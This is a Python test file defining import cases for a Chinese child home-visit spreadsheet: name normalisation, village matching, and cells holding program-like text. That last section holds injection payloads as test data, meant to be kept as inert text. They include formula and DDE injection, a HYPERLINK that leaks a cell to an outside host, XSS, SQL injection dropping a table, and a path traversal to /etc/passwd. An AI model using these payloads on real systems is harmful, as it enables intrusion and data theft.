"""Names, places, and cells that would rather be programs."""

from __future__ import annotations

from functools import partial
from typing import Any

from tests.corpus.case import case, partly, refused, taken
from tests.corpus.makers import CARER, CHILD, ID, VISIT, number, village, visits

add = partial(case, "values")
GROUPED = "heading=2,title=2,total=1"
BARE = "heading=1"
IS_NUMBERED = ("SELECT count(*) FROM person WHERE child_ref <> alt_ref", [(1,)])
IS_NOT_NUMBERED = ("SELECT count(*), count(id_no) FROM person WHERE child_ref = alt_ref", [(1, 0)])
WRONG = ID[:-1] + ("3" if ID[-1] != "3" else "4")
OLD_CARER = CARER[:6] + CARER[8:17]
X_ID = next(n for order in range(400, 500, 2) if (n := number("20210305", order)).endswith("X"))
FALSE_DATE = number("20210230", 472)

# Names

SAME_CHILD = ("SELECT count(*), count(DISTINCT child_ref) FROM visit", [(2, 1)])
BLANK_ID = {"身份证号": None}
for name, one, other in (
    ("blanks inside", "王梓", "王　 梓"),
    ("traditional characters", "張偉", "张伟"),
    ("zero-width characters", "王梓", "王\u200d梓\u2060"),
    ("variation selectors", "𠮷田", "𠮷\ufe00田\U000e0100"),
    ("soft hyphens and direction marks", "王梓", "\u2068王\u00ad梓\u2069"),
    ("pinyin behind it", "王梓", "王梓(wáng zǐ)"),
    ("compatibility characters", "李梓", "\uf9e1梓"),
    ("the middle dot ·", "阿依古丽·买买提", "阿依古丽•买买提"),
    ("the middle dot ・", "阿依古丽·买买提", "阿依古丽・买买提"),
    ("the middle dot ∙", "阿依古丽·买买提", "阿依古丽∙买买提"),
    ("a full stop as middle dot", "阿依古丽·买买提", "阿依古丽．买买提"),
):
    add(
        f"a name with {name}",
        "the same name: the same child in two visits",
        visits(
            {**VISIT, **BLANK_ID, "姓名": one},
            {**VISIT, **BLANK_ID, "姓名": other, "应访截止日期": "2026-06-30"},
        ),
        taken(2),
        holds=SAME_CHILD,
    )
for name, written in (
    ("of one character", "娜"),
    ("of ten characters", "阿卜杜热合曼·阿不都拉"),
    ("of Latin letters", "Na Thapa"),
    ("beyond the first plane", "𠮷𪚥"),
    ("with a circle for zero", "王〇"),
    ("with a described character", "王⿰亻⿱"),
):
    add(
        f"a name {name}",
        "a name",
        visits({**VISIT, **BLANK_ID, "姓名": written}),
        taken(1),
        holds=("SELECT count(name), max(_invalid) FROM person", [(1, "")]),
    )
for name, written in (
    ("with a lost character", "王?"),
    ("with a box for a character", "王□"),
    ("masked with a star", "王*"),
    ("of two children in one cell", "王梓、王桐"),
    ("of two children on two lines", "王梓\n王桐"),
    ("that is a number", "12"),
    ("that is a formula", "=1+1"),
    ("that is a script", "<script>alert(1)</script>"),
):
    add(
        f"a name {name}",
        "no name of one child: with a number the child is known by it, without one the row waits",
        visits(
            {**VISIT, "姓名": written}, {**VISIT, **BLANK_ID, "姓名": written, "应访截止日期": "2026-06-30"}
        ),
        partly(
            1,
            1,
            "warning 走访!C4 not_a_name",
            "warning 走访!C5 not_a_name",
            "error 走访!C5 person_unidentified",
        ),
        holds=("SELECT name, _invalid FROM person", [(None, ",name,")]),
    )

# Places

for name, written, code in (
    ("by its name", "橄榄村", "530902001902"),
    ("by its code", "530902001902", "530902001902"),
    ("by township and name", "博尚镇响泉村", "530902102901"),
    ("by a name of long ago", "响泉村委会", "530902001901"),
    ("in traditional characters", "橄欖村", "530902001902"),
):
    add(
        f"a village {name}",
        "the place that the area ledger knows",
        visits({**VISIT, "村（社区）": written}),
        taken(1),
        holds=("SELECT village_code FROM person", [(code,)]),
    )
for name, written in (
    ("of a name that two have", "响泉村"),
    ("in the wrong township", "博尚镇橄榄村"),
    ("by a code of long ago", "533521101203"),
    ("that no ledger knows", "云上村"),
):
    add(
        f"a village {name}",
        "asked about, never chosen; the child is known by its number",
        visits({**VISIT, "村（社区）": written}),
        taken(1, "warning 走访!B4 unknown_area"),
        holds=("SELECT village_code FROM person", [(None,)]),
    )
add(
    "a sender of a village that two have",
    "whose children these are is asked",
    village(CHILD, sender="响泉村"),
    refused("error 台账!C5 sender_unknown", quarantined=1, ignored=GROUPED),
)
add(
    "a sender in the wrong township",
    "a village of another township is not taken for the one that is meant",
    village(CHILD, sender="博尚镇橄榄村"),
    refused("error 台账!C5 sender_unknown", quarantined=1, ignored=GROUPED),
)

# What would rather be a program


def _text_stays(written: str) -> tuple[str, list[tuple[Any, ...]]]:
    return "SELECT ethnicity FROM child", [(written,)]


for name, written in (
    ("a formula", "=1+1"),
    ("a function call", "@SUM(A1:A9)"),
    ("a link", '=HYPERLINK("http://192.0.2.1/"&A1)'),
    ("a command of old spreadsheets", "+cmd|' /C calc'!A0"),
    ("a script", "<script>alert(1)</script>"),
    ("a picture of Markdown", "![x](http://192.0.2.1/x.png)"),
    ("SQL", "'); DROP TABLE child; --"),
    ("a path", "../../etc/passwd"),
    ("a pattern", "{expected.__class__} %s %(x)s"),
):
    add(
        f"{name} in a cell of text",
        "kept as the text that it is; nothing runs",
        village({**CHILD, "民族": written}),
        taken(1, ignored=GROUPED),
        holds=_text_stays(written.lstrip("'")),
    )
for name, written in (
    ("a pattern", "{found.__class__}"),
    ("markup", "[red]是[/red]"),
    ("a picture", "![x](http://192.0.2.1)"),
):
    add(
        f"{name} in a cell of codes",
        "no answer of the list; the message shows it as text",
        visits({**VISIT, "走访方式": written}),
        taken(1, "warning 走访!H4 not_in_code_list"),
    )
add(
    "a cell of 32,767 characters",
    "as long as a spreadsheet allows, in a note: kept",
    visits({**VISIT, "走访情况记录": "字" * 32_767}),
    taken(1),
    holds=("SELECT length(note) > 32767 FROM visit", [(True,)]),
)
add(
    "a long cell where a word is expected",
    "the message does not repeat all of it",
    visits({**VISIT, "走访方式": "走" * 30_000}),
    taken(1, "warning 走访!H4 not_in_code_list"),
    holds=("SELECT max(length(found)) <= 40 FROM message", [(True,)]),
)
